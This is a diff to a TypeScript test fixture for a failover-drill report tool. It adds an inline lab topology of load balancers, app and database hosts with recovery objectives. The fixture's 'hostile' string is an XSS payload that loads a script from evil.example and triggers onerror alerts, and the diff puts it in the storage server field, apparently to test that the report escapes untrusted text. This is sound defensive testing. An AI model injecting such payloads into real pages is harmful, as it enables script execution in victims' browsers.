@@ -6,7 +6,7 @@ import { formatLine, type RequestClass, type RequestRecord } from "../../src/cor
 import { split } from "../../src/core/drill/report/bins.ts";
 import type { FaultMarks, Injection, ReportInput, RunContext } from "../../src/core/drill/report/model.ts";
 import { otherFigures, readResult } from "../../src/core/drill/report/read.ts";
-import { blueprint } from "./render.ts";
+import { topologySchema } from "../../src/core/topology/schema.ts";
 
 /** What an attacker would put wherever text of others is shown. */
 export const hostile = `</title><script src="https://evil.example/x.js">alert(1)</script><img src=x onerror='alert(2)'>`;
@@ -122,12 +122,51 @@ export function verdictOf(scene: Scene): Record<string, unknown> {
   };
 }
 
+/** Its own, so that a change of a blueprint is no change of this report. */
+const topology = topologySchema.parse({
+  holdfast: 1,
+  name: "shop",
+  provider: { kind: "lab" },
+  network: { subnet: "10.1.1.0/24" },
+  zones: ["a", "b", "c"],
+  hosts: {
+    lb1: { zone: "a", address: "10.1.1.11" },
+    lb2: { zone: "b", address: "10.1.1.12" },
+    app1: { zone: "a", address: "10.1.1.21" },
+    app2: { zone: "b", address: "10.1.1.22" },
+    data1: { zone: "a", address: "10.1.1.31" },
+    data2: { zone: "b", address: "10.1.1.32" },
+    data3: { zone: "c", address: "10.1.1.33" },
+  },
+  objectives: {
+    entry: { recoveryTime: "1s" },
+    app: { recoveryTime: "1s" },
+    database: { recoveryTime: "10s", dataLoss: "none" },
+    cache: { recoveryTime: "5s" },
+  },
+  entry: { hosts: ["lb1", "lb2"], address: { vip: "10.1.1.10" } },
+  app: {
+    name: "shop",
+    hosts: ["app1", "app2"],
+    package: "shop-1.0.0.tar.gz",
+    unit: "shop.service",
+    user: "shop",
+    services: [{ name: "shop", prefix: "/", port: 8441 }],
+    health: { path: "/status" },
+  },
+  database: { hosts: ["data1", "data2"], name: "shop", user: "shop" },
+  coordination: { hosts: ["data1", "data2", "data3"] },
+  cache: { hosts: ["data1", "data2", "data3"] },
+  storage: { mount: "/srv/shop", source: { kind: "nfs", server: hostile, export: "/shop" } },
+  accept: [{ code: "HF122", reason: "a lost replica is repaired at once" }],
+});
+
 export const context: RunContext = {
   startedAt: "2026-01-02T03:04:05.678Z",
   command: "holdfast drill --all --repeat 2 --seed 7",
   seed: "7",
   holdfast: "0.1.0",
-  topology: blueprint(),
+  topology,
   topologyHash: "0123456789abcdef".repeat(4),
   engines: [{ engine: "Patroni", version: "4.1.5", hosts: ["data1", "data2"] }],
   machine: {
@@ -183,7 +222,7 @@ export function reportInput(): ReportInput {
     ];
   });
   return {
-    topologyName: "privx-onprem",
+    topologyName: "shop",
     run: "2026-01-02T030405Z-all",
     context,
     aborted: null,
@@ -224,10 +263,7 @@ export async function storedRun(
   await mkdir(folder);
   const write = (file: string, text: string): Promise<void> => writeFile(join(folder, file), text);
   const rate = { perSecond: 200, clients: 20 };
-  await write(
-    "marks.json",
-    JSON.stringify({ topology: "privx-onprem", rate, aborted: null, faults: runMarks }),
-  );
+  await write("marks.json", JSON.stringify({ topology: "shop", rate, aborted: null, faults: runMarks }));
   await write("verdict.json", JSON.stringify({ faults: runVerdicts.map(change) }));
   await write("history.jsonl", runHistory.map(formatLine).join(""));
   const lost = { id: "run-41", outcome: "ok", intended: 18_100, found: "absent", copies: 0 } as const;
